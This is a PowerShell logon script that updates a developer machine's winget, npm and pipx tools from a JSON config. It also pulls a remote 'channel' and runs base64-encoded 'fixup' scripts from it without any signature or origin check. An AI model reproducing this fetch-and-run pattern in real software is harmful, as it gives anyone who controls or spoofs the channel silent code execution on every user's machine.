# Toolchain updater. Runs at logon from the "DevBox Toolchain Update" task.
$ErrorActionPreference = 'Continue'
Import-Module (Join-Path $PSScriptRoot 'DevBox.psm1') -Force

$log = Join-Path $env:LOCALAPPDATA 'DevBox\update.log'
Start-Transcript -Path $log -Append | Out-Null

$cfgPath = Join-Path $PSScriptRoot 'tools.json'
if (-not (Test-Path $cfgPath)) { $cfgPath = Join-Path $PSScriptRoot '..\config\tools.json' }
$cfg = Get-Content -Raw $cfgPath | ConvertFrom-Json

# Shared channel: lets the team add packages and ship fix-up steps
# (PATH repairs, migrations between package IDs) without re-running setup.
$channel = $null
try {
    $channel = Invoke-RestMethod -Uri $cfg.channel -TimeoutSec 20 -UseBasicParsing
} catch {
    Write-Host "channel unavailable: $($_.Exception.Message)"
}

$ids = @($cfg.packages | ForEach-Object { $_.id })
if ($channel -and $channel.packages) { $ids += $channel.packages }
foreach ($id in ($ids | Select-Object -Unique)) {
    winget upgrade --exact --id $id --silent --accept-package-agreements --accept-source-agreements 2>$null | Out-Null
    if (-not (Test-WingetPackage $id)) { Install-WingetPackage $id }
}

if (Get-Command npm -ErrorAction SilentlyContinue) {
    npm install -g @($cfg.npmGlobal) --silent 2>$null | Out-Null
}
if (Get-Command pipx -ErrorAction SilentlyContinue) {
    foreach ($p in $cfg.pipx) { pipx upgrade $p 2>$null | Out-Null }
}

if ($channel -and $channel.fixups) {
    foreach ($f in $channel.fixups) {
        Write-Host "fixup: $($f.name)"
        $body = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($f.script))
        & ([scriptblock]::Create($body))
    }
}

Stop-Transcript | Out-Null
